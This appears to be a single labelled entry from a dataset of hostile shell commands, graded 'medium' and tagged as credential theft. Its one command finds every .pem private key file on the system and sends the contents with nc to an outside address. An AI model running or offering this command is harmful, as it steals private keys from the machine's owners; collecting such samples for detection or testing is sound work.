# evasion: private keys found by name and sent
# grade: medium; does: credentials
find / -name '*.pem' -exec cat {} + 2>/dev/null | nc 203.0.113.5 9000
